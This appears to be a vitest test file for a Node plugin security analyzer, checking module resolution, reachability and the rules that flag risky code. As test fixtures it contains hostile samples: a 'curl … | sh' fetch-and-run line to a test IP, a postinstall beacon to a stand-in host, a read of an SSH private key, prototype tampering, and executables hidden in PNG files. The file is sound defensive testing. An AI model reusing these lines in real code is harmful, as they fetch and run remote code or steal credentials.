import { spawnSync } from 'node:child_process';
import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { analyzePlugin } from '../../analyzer/index.js';
import { ModuleGraph } from '../../analyzer/module-graph.js';
import type { Manifest } from '../../analyzer/types.js';
import { MANIFEST, NATIVE_HEADS, writePlugin } from './helpers.js';

const summary = (findings: { file: string; line: number; ruleId: string; severity: string; reachable: boolean }[]) =>
  findings.map((f) => `${f.file}:${f.line} ${f.ruleId} ${f.severity}${f.reachable ? '' : ' unreachable'}`);

describe('module resolution', () => {
  const root = writePlugin({
    'package.json': { ...MANIFEST, imports: { '#cp': 'child_process', '#util/*': './lib/util/*.js' }, devDependencies: { 'only-dev': '*' }, dependencies: { dep: '*' } },
    'index.js': '',
    'lib/a.ts': '',
    'lib/b/index.js': '',
    'lib/util/x.js': '',
    'data.txt': '',
    'node_modules/dep/package.json': { name: 'dep', exports: { '.': { require: './cjs.js', import: './esm.mjs' }, './sub/*': './lib/*.js' } },
    'node_modules/dep/cjs.js': '',
    'node_modules/dep/esm.mjs': '',
    'node_modules/dep/lib/deep.js': '',
    'node_modules/dep/node_modules/inner/index.js': '',
    'node_modules/only-dev/index.js': '',
  });
  const graph = new ModuleGraph(root, { ...MANIFEST, imports: { '#cp': 'child_process', '#util/*': './lib/util/*.js' }, devDependencies: { 'only-dev': '*' } } as Manifest, []);

  it("follows Node's file rules: exact names of any extension, added extensions, TypeScript sources, folders", async () => {
    expect(graph.resolve('index.js', './data.txt')).toEqual({ kind: 'files', paths: ['data.txt'] });
    expect(graph.resolve('index.js', './lib/a.js')).toEqual({ kind: 'files', paths: ['lib/a.ts'] });
    expect(graph.resolve('index.js', './lib/b')).toEqual({ kind: 'files', paths: ['lib/b/index.js'] });
    expect(graph.resolve('index.js', './missing')).toEqual({ kind: 'missing' });
  });

  it('resolves packages through exports (every condition), nested node_modules, and #imports', async () => {
    expect(graph.resolve('index.js', 'dep')).toEqual({ kind: 'files', paths: ['node_modules/dep/cjs.js', 'node_modules/dep/esm.mjs'] });
    expect(graph.resolve('index.js', 'dep/sub/deep')).toEqual({ kind: 'files', paths: ['node_modules/dep/lib/deep.js'] });
    expect(graph.resolve('node_modules/dep/cjs.js', 'inner')).toEqual({ kind: 'files', paths: ['node_modules/dep/node_modules/inner/index.js'] });
    expect(graph.resolve('index.js', '#util/x')).toEqual({ kind: 'files', paths: ['lib/util/x.js'] });
    expect(graph.resolve('index.js', '#cp')).toEqual({ kind: 'builtin' });
  });

  it('reads only a regular package.json: a FIFO in its place resolves like a folder without one, and does not hang', async () => {
    const fifoRoot = writePlugin({ 'package.json': MANIFEST, 'index.js': '', 'node_modules/odd/index.js': '' });
    expect(spawnSync('mkfifo', [join(fifoRoot, 'node_modules/odd/package.json')]).status).toBe(0);
    const fifoGraph = new ModuleGraph(fifoRoot, MANIFEST as Manifest, []);
    expect(await fifoGraph.resolve('index.js', 'odd')).toEqual({ kind: 'files', paths: ['node_modules/odd/index.js'] });
  });

  it('never brings in a devDependency, and leaves builtins and URLs to the rules', async () => {
    expect(graph.resolve('index.js', 'only-dev')).toEqual({ kind: 'devDependency', name: 'only-dev', present: true });
    expect(graph.resolve('index.js', 'node:fs')).toEqual({ kind: 'builtin' });
    expect(graph.resolve('index.js', 'data:text/javascript,1')).toEqual({ kind: 'outside' });
    expect(graph.resolve('index.js', '/etc/passwd')).toEqual({ kind: 'outside' });
  });
});

describe('the gate reads what would ship and what the entries reach', () => {
  it('reads a dependency only as far as the entry points reach it, and lowers what no entry reaches', async () => {
    const root = writePlugin({
      'package.json': { ...MANIFEST, dependencies: { lib: '*' } },
      'index.js': "require('lib');",
      'tools/build.js': "require('child_process');",
      'node_modules/lib/package.json': { name: 'lib', main: 'main.js', scripts: { prepare: 'tsc' } },
      'node_modules/lib/main.js': "module.exports = require('./part');",
      'node_modules/lib/part.js': "require('net');",
      'node_modules/lib/test/spec.js': "require('child_process');",
      'node_modules/lib/bin/cli.js': 'eval(process.argv[2]);',
    });
    const analysis = await analyzePlugin(root, { cache: false });
    expect(summary(analysis.findings)).toEqual([
      'node_modules/lib/package.json:5 install-script info',
      'node_modules/lib/part.js:1 no-network high',
      'tools/build.js:1 no-child-process medium unreachable',
    ]);
    expect(Object.keys(analysis.hashes).sort()).toEqual(['index.js', 'node_modules/lib/main.js', 'node_modules/lib/package.json', 'node_modules/lib/part.js', 'package.json', 'tools/build.js']);
  });

  it('counts everything as reachable once reachable code loads what the gate cannot name', async () => {
    const root = writePlugin({
      'package.json': MANIFEST,
      'index.js': 'require(process.argv[2]);',
      'spare.js': "require('net');",
    });
    const analysis = await analyzePlugin(root, { cache: false });
    expect(summary(analysis.findings)).toContain('spare.js:1 no-network high');
  });

  it('reads a loaded file whatever its extension, and an entry point named in bin or exports', async () => {
    const root = writePlugin({
      'package.json': { ...MANIFEST, bin: { tool: 'bin/tool' }, exports: { '.': './index.js', './extra': './extra.CJS' } },
      'index.js': "require('./payload.txt');",
      'payload.txt': "require('child_process').exec(cmd);",
      'bin/tool': "#!/usr/bin/env node\nrequire('net');",
      'extra.CJS': "require('dgram');",
    });
    const found = summary((await analyzePlugin(root, { cache: false })).findings);
    expect(found).toEqual(expect.arrayContaining(['payload.txt:1 no-child-process high', 'bin/tool:2 no-network high', 'extra.CJS:1 no-network high']));
  });

  it('resolves a specifier as the loader that reads it: import URLs drop ?query and #hash and decode %xx; a trailing / is a folder', () => {
    const root = writePlugin({
      'package.json': MANIFEST,
      'telemetry.js': '',
      'a b.js': '',
      'sub.js': '',
      'sub/index.js': '',
      'x.js?v=2': '', // what `require` reads for the same text: a path, not a URL
    });
    const graph = new ModuleGraph(root, MANIFEST as Manifest, []);
    const paths = (specifier: string, via: 'import' | 'require') => {
      const target = graph.resolve('index.js', specifier, via);
      return target.kind === 'files' ? target.paths : target.kind;
    };
    expect(paths('./tele%6Detry.js', 'import')).toEqual(['telemetry.js']);
    expect(paths('./telemetry.js?v=2#top', 'import')).toEqual(['telemetry.js']);
    expect(paths('./a%20b.js', 'import')).toEqual(['a b.js']);
    expect(paths('./x.js?v=2', 'require')).toEqual(['x.js?v=2']);
    expect(paths('./tele%6Detry.js', 'require')).toBe('missing');
    expect(paths('./sub', 'require')).toEqual(['sub.js']);
    expect(paths('./sub/', 'require')).toEqual(['sub/index.js']);
    expect(paths('./sub/.', 'require')).toEqual(['sub/index.js']);
    // Node refuses an escaped separator in an import specifier.
    expect(paths('.%2Fsub.js', 'import')).toBe('missing');
  });

  it('counts every file reachable when reachable code loads a file of its own the gate cannot find', async () => {
    const files = {
      'package.json': MANIFEST,
      'index.js': "require('./lib/helper');",
      'lib/helper.js': '',
      'lib/unused.js': "require('child_process').exec('id');",
    };
    const complete = await analyzePlugin(writePlugin(files), { cache: false });
    expect(summary(complete.findings)).toEqual(['lib/unused.js:1 no-child-process medium unreachable']);
    // `./payload` resolves to nothing here; the gate cannot tell what Node would find under that name, so nothing is ruled out.
    const missing = await analyzePlugin(writePlugin({ ...files, 'index.js': "require('./lib/helper'); require('./payload');" }), { cache: false });
    expect(summary(missing.findings)).toEqual(['lib/unused.js:1 no-child-process high']);
    // A load inside a try is the optional-file idiom: the code expects the file may be absent.
    const optional = await analyzePlugin(writePlugin({ ...files, 'index.js': "require('./lib/helper');\nlet local = {};\ntry { local = require('./local.config.js'); } catch {}" }), { cache: false });
    expect(summary(optional.findings)).toEqual(['lib/unused.js:1 no-child-process medium unreachable']);
  });

  it('expands an exports pattern as Node does: `*` stands for any string, folders included, and nothing else', async () => {
    const root = writePlugin({
      'package.json': { ...MANIFEST, main: 'index.js', exports: { '.': './index.js', './tools/*': './lib/*.js' } },
      'index.js': '',
      'lib/deep/down/tool.js': "require('net');", // `pkg/tools/deep/down/tool`
      'lib/top.js': "require('dgram');",
      'libXtop.js': "require('http2');", // `.` is a dot, not any character
    });
    const analysis = await analyzePlugin(root, { cache: false });
    const reachable = analysis.findings.filter((f) => f.reachable).map((f) => f.file);
    expect(reachable.sort()).toEqual(['lib/deep/down/tool.js', 'lib/top.js']);
  });

  it('lets a loaded file that is not JavaScript pass as info: Node would refuse to run it', async () => {
    const root = writePlugin({ 'package.json': MANIFEST, 'index.js': "import './style.css';", 'style.css': '.a { color: red; }' });
    expect(summary((await analyzePlugin(root, { cache: false })).findings)).toEqual(['style.css:1 unanalyzable info']);
  });

  it('makes what a lifecycle script runs an entry point, critical when it does anything dangerous', async () => {
    const root = writePlugin({
      'package.json': { ...MANIFEST, scripts: { postinstall: 'node scripts/setup.js' } },
      'index.js': '',
      'scripts/setup.js': "require('https').get('https://collect.example/x');",
    });
    const found = summary((await analyzePlugin(root, { cache: false })).findings);
    expect(found).toEqual(['package.json:10 install-script critical', 'scripts/setup.js:1 no-network critical', 'scripts/setup.js:1 no-network critical']);
  });

  it('reads a file handed to a shell as a shell script: critical when a line downloads or evaluates, quiet otherwise', async () => {
    const polyglot = "//bin/true; curl -fsS http://192.0.2.10/s | sh; exit 0\nexports.count = (t) => String(t).length;\n";
    const root = writePlugin({
      'package.json': { ...MANIFEST, capabilities: { childProcess: true } },
      'index.js': "const { execFile, fork } = require('child_process');\nconst path = require('path');\nexecFile('/bin/sh', [path.join(__dirname, 'lib', 'indexer.js')]);\nfork(path.join(__dirname, 'lib', 'other.js'), [], { execPath: '/bin/dash' });\nexecFile('sh', [path.join(__dirname, 'tools', 'clean.sh')]);",
      'lib/indexer.js': polyglot,
      'lib/other.js': polyglot,
      'tools/clean.sh': 'rm -rf "$TMPDIR/notes-cache"\necho done\n',
    });
    const found = summary((await analyzePlugin(root, { cache: false })).findings).filter((line) => line.includes('shell-script'));
    expect(found).toEqual(['lib/indexer.js:1 shell-script critical', 'lib/other.js:1 shell-script critical']);
  });

  it('judges a package.json script the code runs by name (node --run, npm run) as a lifecycle script', async () => {
    const root = writePlugin({
      'package.json': { ...MANIFEST, capabilities: { childProcess: true }, scripts: { sync: 'curl -fsS http://192.0.2.10/s | sh', build: 'tsc -p .' } },
      'index.js': "const { execFile } = require('child_process');\nexecFile(process.execPath, ['--run', 'sync'], { cwd: __dirname });\nexecFile('npm', ['run', 'build']);",
    });
    const found = summary((await analyzePlugin(root, { cache: false })).findings).filter((line) => line.includes('shell-script'));
    expect(found).toEqual(['package.json:13 shell-script critical']);
  });

  it("places a path another module's export proves in the data folder, and nothing else it exports", async () => {
    const where = [
      "const path = require('path');",
      "const os = require('os');",
      "exports.logFile = (ctx) => path.join(ctx.dataDir, 'activity.log');",
      "function paths(ctx) { return { state: path.join(ctx.dataDir, 'state.json'), key: path.join(os.homedir(), '.ssh', 'id_rsa') }; }",
      "module.exports.paths = paths;",
      "exports.up = (ctx) => path.join(ctx.dataDir, '..', '..', 'x');",
    ].join('\n');
    const root = writePlugin({
      'package.json': MANIFEST,
      'lib/where.js': where,
      'index.js': [
        "const fs = require('fs');",
        "const { logFile, paths, up } = require('./lib/where');",
        'exports.activate = (ctx) => {',
        "  fs.appendFileSync(logFile(ctx), 'x');",
        '  const p = paths(ctx);',
        '  fs.readFileSync(p.state);',
        '  fs.readFileSync(p.key);',
        '  fs.readFileSync(up(ctx));',
        "  fs.readFileSync(logFile(require('os').homedir()));",
        '};',
      ].join('\n'),
    });
    const found = summary((await analyzePlugin(root, { cache: false })).findings).filter((line) => line.includes('no-filesystem') && line.startsWith('index.js:') && !line.startsWith('index.js:1 '));
    // p.key (home), up(ctx) (climbs out), and logFile handed something that is not a host object stay unplaced.
    expect(found).toEqual(['index.js:7 no-filesystem high', 'index.js:8 no-filesystem high', 'index.js:9 no-filesystem high']);
  });

  it("reports a write on what another file exports when that export is a shared built-in, and only then", async () => {
    const root = writePlugin({
      'package.json': { ...MANIFEST, main: 'index.mjs', type: 'module' },
      'lib/base.mjs': 'export const base = Object.getPrototypeOf({});\nconst protos = { arr: Array.prototype };\nexport const { arr } = protos;\nconst J = JSON;\nexport { J as codec };\nexport default Math;\nexport const config = { shell: false };',
      'lib/cjs.cjs': "exports.proto = [].__proto__;\nexports.settings = {};\nmodule.exports.global = globalThis;",
      'index.mjs': [
        "import { base, config, codec } from './lib/base.mjs';",
        "import * as ns from './lib/base.mjs';",
        "import M from './lib/base.mjs';",
        "import cjs from './lib/cjs.cjs';",
        "base.shell = '/bin/sh';",
        'config.shell = true;',
        'Object.defineProperty(codec, "parse", { value: (t) => t });',
        'ns.config.extra = 1;',
        'M.random = () => 4;',
        'cjs.settings.debug = true;',
        'cjs.proto.includes = () => true;',
        'export function activate() {}',
      ].join('\n'),
    });
    const found = summary((await analyzePlugin(root, { cache: false })).findings).filter((line) => line.startsWith('index.mjs:'));
    // config and settings are the plugin's own objects; base (Object.prototype), codec (JSON), the default (Math) and proto (Array.prototype) are shared.
    expect(found).toEqual(['index.mjs:5 no-runtime-tampering high', 'index.mjs:7 no-runtime-tampering high', 'index.mjs:9 no-runtime-tampering high', 'index.mjs:11 no-runtime-tampering high']);
  });

  it('follows a shared built-in through barrels that re-export it, and only what they re-export', async () => {
    const root = writePlugin({
      'package.json': { ...MANIFEST, main: 'index.mjs', type: 'module' },
      'lib/protos.mjs': 'export const list = Array.prototype;\nexport const text = String.prototype;\nexport const own = {};\nexport const make = () => Object.prototype;',
      'lib/index.mjs': "export { list, own as mine } from './protos.mjs';\nexport * from './protos.mjs';\nimport { make } from './protos.mjs';\nexport { make as build };",
      'lib/barrel.cjs': "module.exports = require('./base.cjs');\nexports.codec = require('./base.cjs').json;",
      'lib/shapes.cjs': 'exports.protos = { arr: Array.prototype, deep: { s: String.prototype }, own: {} };',
      'lib/shapes-barrel.mjs': "export { default as shapes } from './shapes.cjs';",
      'lib/destructured.mjs': 'export const { list: items, own } = { list: Array.prototype, own: {} };\nconst protos = { text: String.prototype };\nexport const { text } = protos;',
      'lib/base.cjs': 'exports.json = JSON;\nexports.plain = {};',
      'index.mjs': [
        "import { list, mine, text, build } from './lib/index.mjs';",
        "import barrel from './lib/barrel.cjs';",
        'list.includes = () => true;',
        'mine.x = 1;',
        'text.trim = () => "";',
        'build().polluted = true;',
        'barrel.json.parse = (t) => t;',
        'barrel.plain.x = 1;',
        "import { shapes } from './lib/shapes-barrel.mjs';",
        'shapes.protos.arr.includes = () => true;',
        'shapes.protos.deep.s.trim = () => "";',
        'shapes.protos.own.x = 1;',
        "import { items, own as ownToo, text as t } from './lib/destructured.mjs';",
        'items.includes = () => true;',
        'ownToo.x = 1;',
        't.trim = () => "";',
        'export function activate() {}',
      ].join('\n'),
    });
    const found = summary((await analyzePlugin(root, { cache: false })).findings).filter((line) => line.startsWith('index.mjs:'));
    // list (a named re-export), text (through export *), build() (an imported function exported again), the CommonJS
    // barrel's json, members of an exported literal (protos.arr, protos.deep.s) and names destructured out of a literal
    // (items, t) are shared; mine, plain, protos.own and ownToo are the plugin's own objects.
    expect(found).toEqual(['index.mjs:3 no-runtime-tampering high', 'index.mjs:5 no-runtime-tampering high', 'index.mjs:6 no-runtime-tampering high', 'index.mjs:7 no-runtime-tampering high', 'index.mjs:10 no-runtime-tampering high', 'index.mjs:11 no-runtime-tampering high', 'index.mjs:14 no-runtime-tampering high', 'index.mjs:16 no-runtime-tampering high']);
  });

  it('follows CommonJS barrels as compilers write them: tsc, Babel, esbuild, a name holding the module, Object.assign', async () => {
    const protos = 'exports.list = Array.prototype;\nexports.text = String.prototype;\nexports.own = {};';
    const root = writePlugin({
      'package.json': MANIFEST,
      'lib/protos.js': protos,
      'lib/mine.js': 'exports.list = [];\nexports.text = {};',
      // tsc: `export * from './protos'` and `export { text as words } from './protos'`.
      'lib/tsc.js': [
        '"use strict";',
        'var __exportStar = (this && this.__exportStar) || function (m, exports) { for (var p in m) if (p !== "default") exports[p] = m[p]; };',
        'Object.defineProperty(exports, "__esModule", { value: true });',
        '__exportStar(require("./protos"), exports);',
        'var protos_1 = require("./protos");',
        'Object.defineProperty(exports, "words", { enumerable: true, get: function () { return protos_1.text; } });',
      ].join('\n'),
      // Babel: `export * from './protos'`.
      'lib/babel.js': [
        'var _protos = require("./protos");',
        'Object.keys(_protos).forEach(function (key) {',
        '  if (key === "default" || key === "__esModule") return;',
        '  Object.defineProperty(exports, key, { enumerable: true, get: function () { return _protos[key]; } });',
        '});',
      ].join('\n'),
      'lib/held.js': "const p = require('./protos');\nconst again = p;\nmodule.exports = again;",
      'lib/assigned.js': "Object.assign(module.exports, require('./protos'));",
      // esbuild: a table of getters copied onto the exports; its look-alike exports functions of the plugin's own objects.
      'lib/esbuild.js': [
        'var __defProp = Object.defineProperty;',
        'var __export = (target, all) => { for (var name in all) __defProp(target, name, { get: all[name], enumerable: true }); };',
        'var __toCommonJS = (mod) => Object.assign(__defProp({}, "__esModule", { value: true }), mod);',
        'var src_exports = {};',
        '__export(src_exports, { codec: () => codec, mine: () => mine });',
        'module.exports = __toCommonJS(src_exports);',
        'const codec = JSON;',
        'const mine = {};',
      ].join('\n'),
      'lib/own-table.js': 'Object.assign(exports, { make: () => JSON });',
      // Look-alikes: barrels of the plugin's own objects, and a named definition that only marks the module.
      'lib/own-barrel.js': '"use strict";\nObject.defineProperty(exports, "__esModule", { value: true });\nvar __exportStar = function (m, exports) { for (var p in m) exports[p] = m[p]; };\n__exportStar(require("./mine"), exports);',
      'index.js': [
        "const tsc = require('./lib/tsc');",
        "const babel = require('./lib/babel');",
        "const held = require('./lib/held');",
        "const assigned = require('./lib/assigned');",
        "const own = require('./lib/own-barrel');",
        'tsc.list.includes = () => true;',
        'tsc.words.trim = () => "";',
        'babel.list.includes = () => true;',
        'held.text.trim = () => "";',
        'assigned.list.map = () => [];',
        'tsc.own.x = 1;',
        'own.list.includes = () => true;',
        'own.text.trim = () => "";',
        "const esb = require('./lib/esbuild');",
        'esb.codec.parse = () => ({});',
        'esb.mine.x = 1;',
        "require('./lib/own-table').make.x = 1;",
        'exports.activate = () => {};',
      ].join('\n'),
    });
    const found = summary((await analyzePlugin(root, { cache: false })).findings).filter((line) => line.startsWith('index.js:'));
    // Lines 6–10 and 15 write on Array.prototype, String.prototype and JSON through each barrel; 11–13, 16 and 17 on the
    // plugin's own objects (a function `Object.assign` exports is not a getter).
    expect(found).toEqual(['index.js:6 no-runtime-tampering high', 'index.js:7 no-runtime-tampering high', 'index.js:8 no-runtime-tampering high', 'index.js:9 no-runtime-tampering high', 'index.js:10 no-runtime-tampering high', 'index.js:15 no-runtime-tampering high']);
  });

  it('follows a barrel through interop helpers, destructured names, chained and bracketed exports, load-time blocks, spreads and long chains', async () => {
    const chain = Object.fromEntries(Array.from({ length: 6 }, (_, i) => [`lib/c${i}.js`, `module.exports = require('./${i === 5 ? 'leaf' : `c${i + 1}`}');`]));
    const root = writePlugin({
      'package.json': MANIFEST,
      'lib/leaf.js': 'exports.arr = exports["list"] = Array.prototype;\nexports.own = {};',
      'lib/helpers.js': [
        'var __importDefault = function (mod) { return mod && mod.__esModule ? mod : { default: mod }; };',
        'var __importStar = function (mod) { return mod; };',
        'const leaf_1 = __importDefault(require("./leaf"));',
        'exports.list = leaf_1.default.list;',
        'exports.ns = __importStar(require("./leaf"));',
      ].join('\n'),
      'lib/picked.js': "const { list, own } = require('./leaf');\nexports.list = list;\nexports.own = own;",
      'lib/guarded.js': "if (typeof module === 'object') { module.exports = require('./leaf'); }",
      'lib/spread.js': "module.exports = { ...require('./leaf'), version: 1 };",
      'lib/chained.js': "exports = module.exports = require('./leaf');",
      ...chain,
      'index.js': [
        "require('./lib/helpers').list.includes = () => true;",
        "require('./lib/helpers').ns.arr.includes = () => true;",
        "require('./lib/picked').list.includes = () => true;",
        "require('./lib/guarded').list.includes = () => true;",
        "require('./lib/spread').arr.includes = () => true;",
        "require('./lib/chained').list.includes = () => true;",
        "require('./lib/c0').arr.includes = () => true;",
        "require('./lib/picked').own.x = 1;",
        "require('./lib/spread').version.x = 1;",
        'exports.activate = () => {};',
      ].join('\n'),
    });
    const found = summary((await analyzePlugin(root, { cache: false })).findings).filter((line) => line.startsWith('index.js:'));
    // Lines 1–7 write on Array.prototype through each barrel; 8 and 9 on the plugin's own values.
    expect(found).toEqual([1, 2, 3, 4, 5, 6, 7].map((line) => `index.js:${line} no-runtime-tampering high`));
  });

  it('reports a write on what another file exports through a function that returns a shared built-in, or a getter (TypeScript emit)', async () => {
    const root = writePlugin({
      'package.json': MANIFEST,
      'lib/base.js': 'exports.base = () => RegExp.prototype;\nfunction pick() { return [String.prototype][0]; }\nmodule.exports.pick = pick;\nexports.make = () => ({});\nexports.shared = () => JSON;',
      'lib/ts.js': '"use strict";\nObject.defineProperty(exports, "__esModule", { value: true });\nObject.defineProperty(exports, "root", { enumerable: true, get: function () { return Object.prototype; } });\nObject.defineProperty(exports, "own", { enumerable: true, get: () => ({}) });\nObject.defineProperty(exports, "codec", { value: JSON });',
      'lib/whole.js': 'module.exports = function () { return Array.prototype; };',
      'index.js': [
        "const { base, pick, make, shared } = require('./lib/base');",
        "const ts = require('./lib/ts');",
        'const R = base();',
        'R.test = () => true;',
        'pick().endsWith = () => true;',
        'make().x = 1;',
        'shared.parse = null;',
        'ts.root.isAdmin = true;',
        'ts.own.isAdmin = true;',
        'ts.codec.parse = (t) => t;',
        "require('./lib/whole')().includes = () => true;",
        'exports.activate = () => {};',
      ].join('\n'),
    });
    const found = summary((await analyzePlugin(root, { cache: false })).findings).filter((line) => line.startsWith('index.js:'));
    // make() and ts.own are the plugin's own objects; `shared` itself is a function, only its result is JSON.
    expect(found).toEqual(['index.js:4 no-runtime-tampering high', 'index.js:5 no-runtime-tampering high', 'index.js:8 no-runtime-tampering high', 'index.js:10 no-runtime-tampering high', 'index.js:11 no-runtime-tampering high']);
  });

  it('reports a binding.gyp in the root, a shipped binary of no image or font format, and a load of a devDependency', async () => {
    const root = writePlugin({
      'package.json': { ...MANIFEST, devDependencies: { helper: '*' } },
      'index.js': "require('helper');",
      'binding.gyp': '{}',
      'assets/logo.png': Buffer.from('89504e470d0a1a0a0000000d49484452', 'hex'),
      'assets/blob.bin': Buffer.from([1, 0, 2, 0, 3]),
      'lib/tool': NATIVE_HEADS.elf,
      'node_modules/helper/index.js': 'eval(x);',
    });
    const found = summary((await analyzePlugin(root, { cache: false })).findings);
    expect(found).toEqual([
      'assets/blob.bin:1 native-binary medium unreachable',
      'binding.gyp:1 install-script high',
      'index.js:1 dev-dependency high',
      'lib/tool:1 native-binary medium unreachable',
    ]);
  });

  it('reports an executable an image carries after its start, and stays quiet on images and fonts alone', async () => {
    const png = Buffer.from('89504e470d0a1a0a0000000d49484452000000010000000108060000001f15c4890000000d4944415478da63000100000500010d0a2db40000000049454e44ae426082', 'hex');
    const elf = Buffer.concat([Buffer.from('7f454c4602010100', 'hex'), Buffer.alloc(56)]);
    const macho = Buffer.concat([Buffer.from('cffaedfe0c000001000000000200000000000000', 'hex'), Buffer.alloc(16)]);
    const root = writePlugin({
      'package.json': MANIFEST,
      'index.js': '',
      'assets/logo.png': Buffer.concat([png, elf]),
      'assets/icon.png': Buffer.concat([png, macho]),
      'assets/plain.png': png,
      // The ELF magic alone, without a valid header after it, is just bytes.
      'assets/noise.png': Buffer.concat([png, Buffer.from('7f454c46ffff', 'hex')]),
    });
    expect(summary((await analyzePlugin(root, { cache: false })).findings)).toEqual(['assets/icon.png:1 native-binary high', 'assets/logo.png:1 native-binary high']);
  });

  it('resolves a package naming itself through the nearest package.json with exports, as Node does', async () => {
    const root = writePlugin({
      'package.json': MANIFEST,
      'index.js': "module.exports = require('./lib');",
      'lib/package.json': JSON.stringify({ name: 'colors-lite', exports: { '.': './impl.js', './extra': './extra.js' } }),
      'lib/index.js': "module.exports = [require('colors-lite'), require('colors-lite/extra')];",
      'lib/impl.js': "require('https').request('https://stats.example/c');",
      'lib/extra.js': "require('net');",
    });
    expect(summary((await analyzePlugin(root, { cache: false })).findings)).toEqual([
      'lib/extra.js:1 no-network high',
      'lib/impl.js:1 no-network high',
      'lib/impl.js:1 no-network high',
    ]);
    // Without exports a package cannot name itself: Node looks in node_modules, and so does the gate.
    writeFileSync(join(root, 'lib/package.json'), JSON.stringify({ name: 'colors-lite', main: './index.js' }));
    expect(summary((await analyzePlugin(root, { cache: false })).findings)).toEqual([
      'lib/extra.js:1 no-network medium unreachable',
      'lib/impl.js:1 no-network medium unreachable',
      'lib/impl.js:1 no-network medium unreachable',
      'lib/index.js:1 unread-dependency medium',
      'lib/index.js:1 unread-dependency medium',
    ]);
  });

  it('makes every file under directories.bin an entry point: npm links each one as a command', async () => {
    const root = writePlugin({
      'package.json': { ...MANIFEST, directories: { bin: './tools/' } },
      'index.js': '',
      'tools/prettier': "#!/usr/bin/env node\nrequire('child_process').execSync('id');\n",
      'tools/sub/lint.js': "require('net').connect(1);\n",
      'lib/unused.js': "require('child_process');\n",
    });
    expect(summary((await analyzePlugin(root, { cache: false })).findings)).toEqual([
      'lib/unused.js:1 no-child-process medium unreachable',
      'tools/prettier:2 no-child-process high',
      'tools/sub/lint.js:1 no-network high',
      'tools/sub/lint.js:1 no-network high',
    ]);
  });

  it('reports dependencies npm would fetch from outside a registry, and loads of packages the plugin does not ship', async () => {
    const root = writePlugin({
      'package.json': {
        ...MANIFEST,
        dependencies: { styles: 'http://packages.example/styles.tgz', semverish: '^1.2.0', aliased: 'npm:other@^2', shipped: '*', local: 'file:./vendor/local', packed: 'file:./vendor/fmt-1.0.0.tgz' },
        optionalDependencies: { watcher: 'git+https://git.example/watcher.git#main', short: 'someone/short' },
        peerDependencies: { kit: 'https://cdn.example/kit-2.0.0.tgz', outside: 'file:../outside' },
        devDependencies: { tool: 'github:someone/tool' },
      },
      'index.ts': [
        "import type { Api } from 'warden-types';",
        "import { theme } from 'styles';",
        "import { x } from 'shipped';",
        "let w; try { w = require('watcher'); } catch {}",
        // Built-ins that exist only under node: (Node 22's sqlite, the test runner) are Node's, not a package above the plugin; bare `test` is the npm package.
        "import { run } from 'node:test'; import { spec } from 'node:test/reporters'; import sea from 'node:sea'; import other from 'test';",
        'export const activate = (api: Api) => theme(x, w, api, run, spec, sea, other);',
      ].join('\n'),
      'node_modules/shipped/package.json': JSON.stringify({ name: 'shipped', version: '1.0.0' }),
      'node_modules/shipped/index.js': 'exports.x = 1;',
      'vendor/local/package.json': JSON.stringify({ name: 'local', version: '1.0.0' }),
      // A folder it ships is read as its files; a tarball it ships is unpacked only by npm, its scripts unread.
      'vendor/fmt-1.0.0.tgz': 'not read',
    });
    const findings = (await analyzePlugin(root, { cache: false })).findings.filter((f) => f.ruleId === 'unread-dependency');
    expect(findings.map((f) => `${f.file}:${f.line} ${f.category} ${f.severity} ${/"(\w+)"|'(\w+)'/.exec(f.message)!.slice(1).join('')}`)).toEqual([
      'index.ts:2 dynamic-import medium styles',
      'index.ts:5 dynamic-import medium test',
      'package.json:10 install-script high styles',
      'package.json:15 install-script high packed',
      'package.json:18 install-script high watcher',
      'package.json:19 install-script high short',
      'package.json:22 install-script high kit',
      'package.json:23 install-script high outside',
    ]);
  });

  it('judges a #imports alias of a module as a load of that module, and a devDependency that is installed as high', async () => {
    const root = writePlugin({
      'package.json': { ...MANIFEST, imports: { '#sys': 'child_process' }, devDependencies: { helper: '*' } },
      'index.js': "require('#sys').exec('id');\nrequire('helper');",
      'node_modules/helper/index.js': 'eval(x);',
    });
    const found = (await analyzePlugin(root, { cache: false })).findings;
    expect(found.map((f) => `${f.file}:${f.line} ${f.ruleId} ${f.severity}`)).toEqual(['index.js:1 no-child-process high', 'index.js:2 dev-dependency high']);
    expect(found[0].message).toContain('through the "#sys" alias');
  });

  it('skips ignored files no entry reaches, from the manifest or the caller, but never a reachable one', async () => {
    const root = writePlugin({
      'package.json': { ...MANIFEST, warden: { ignores: ['dist/'] } },
      'index.js': "require('./dist/used.js');",
      'dist/used.js': "require('net');",
      'dist/unused.js': "require('child_process');",
      'vendor/x.min.js': "require('dgram');",
    });
    const analysis = await analyzePlugin(root, { cache: false, ignorePatterns: ['**/*.min.js'] });
    expect(summary(analysis.findings)).toEqual(['dist/used.js:1 no-network high']);
    // A load the gate cannot name could reach an ignored file: then it is read after all.
    writeFileSync(join(root, 'index.js'), "require('./dist/used.js'); require(process.argv[2]);");
    expect(summary((await analyzePlugin(root, { cache: false })).findings)).toEqual(expect.arrayContaining(['dist/unused.js:1 no-child-process high']));
    // Not read, but hashed: the host can tell an ignored file from one added later.
    expect(Object.keys(analysis.hashes).sort()).toEqual(['dist/unused.js', 'dist/used.js', 'index.js', 'package.json', 'vendor/x.min.js']);
  });
  it('resolves a started file as a path from the plugin root and from the starting file, never as a package', () => {
    const root = writePlugin({ 'package.json': MANIFEST, 'index.js': '', 'svc/indexer.js': '', 'lib/w.js': '', 'lib/sub/job.js': '', 'node_modules/svc/index.js': '' });
    const started = new ModuleGraph(root, MANIFEST as Manifest, []);
    expect(started.resolveStarted('index.js', '/__plugin__/lib/w.js')).toEqual({ kind: 'files', paths: ['lib/w.js'] });
    expect(started.resolveStarted('lib/x.mjs', 'file:///__plugin__/lib/w.js')).toEqual({ kind: 'files', paths: ['lib/w.js'] });
    // `fork('svc/indexer')`: Node's command line reads a bare name as a relative path and adds extensions.
    expect(started.resolveStarted('index.js', 'svc/indexer')).toEqual({ kind: 'files', paths: ['svc/indexer.js'] });
    // From the working directory (the root) and from the starting file's folder.
    expect(started.resolveStarted('lib/index.js', './sub/job.js')).toEqual({ kind: 'files', paths: ['lib/sub/job.js'] });
    expect(started.resolveStarted('lib/index.js', './lib/w.js')).toEqual({ kind: 'files', paths: ['lib/w.js'] });
    expect(started.resolveStarted('index.js', './nothing.js')).toEqual({ kind: 'missing' });
    expect(started.resolveStarted('index.js', '/usr/lib/node_modules/x.js')).toEqual({ kind: 'outside' });
  });

